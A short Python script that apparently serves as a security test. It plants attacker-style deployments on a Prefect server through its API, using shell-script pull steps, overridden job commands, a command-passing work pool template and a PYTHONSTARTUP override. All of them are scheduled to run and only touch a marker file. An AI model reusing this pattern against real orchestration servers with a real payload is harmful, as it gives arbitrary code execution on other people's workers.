"""`python plant.py ADDRESS LOGIN SIGN`: deployments as an attacker writes them.

Their commands, pull steps and environments make the file SIGN.
"""

import sys
from typing import Any

import httpx

base, login, sign = sys.argv[1:]
client = httpx.Client(base_url=base, timeout=60, headers={"Authorization": f"Basic {login}"})


def post(path: str, /, **body: Any) -> Any:
    """Send to Prefect's API; give its answer."""
    answer = client.post("/api" + path, json=body)
    assert answer.is_success, answer.text
    return answer.json()


command = f"touch {sign}"
step = {"prefect.deployments.steps.run_shell_script": {"script": command}}
job = {"command": command, "env": {"PYTHONSTARTUP": sign}, "working_dir": "/"}
variables = {"type": "object", "properties": {"command": {"type": "string"}}}
template = {"job_configuration": {"command": "{{ command }}"}, "variables": variables}
post("/work_pools/", name="adamerge", type="process", base_job_template=template)
for flow, name in (("pipeline", "nightly"), ("pipeline", "b"), ("evil", "nightly"), ("evil", "x")):
    made = post(
        "/deployments/",
        flow_id=post("/flows/", name=flow)["id"],
        name=name,
        pull_steps=[step],
        job_variables=job,
        entrypoint="evil.py:evil",
        path="/",
        work_pool_name="adamerge",
        schedules=[{"schedule": {"interval": 5}, "active": True}],
    )
    for more in ({"job_variables": job}, {"state": {"type": "SCHEDULED"}}):
        post(f"/deployments/{made['id']}/create_flow_run", **more)
post("/flow_runs/", flow_id=post("/flows/", name="alone")["id"], state={"type": "SCHEDULED"})
